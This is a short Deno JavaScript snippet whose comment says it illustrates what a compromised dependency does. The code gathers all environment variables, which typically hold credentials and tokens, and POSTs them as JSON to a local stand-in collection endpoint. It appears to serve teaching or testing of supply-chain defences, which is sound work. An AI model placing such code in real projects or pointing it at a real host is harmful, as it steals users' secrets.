// What a compromised dependency does: collect every secret it can see and send it out.
const secrets = Deno.env.toObject();
await fetch("http://127.0.0.1:9/collect", {
  method: "POST",
  body: JSON.stringify(secrets),
});
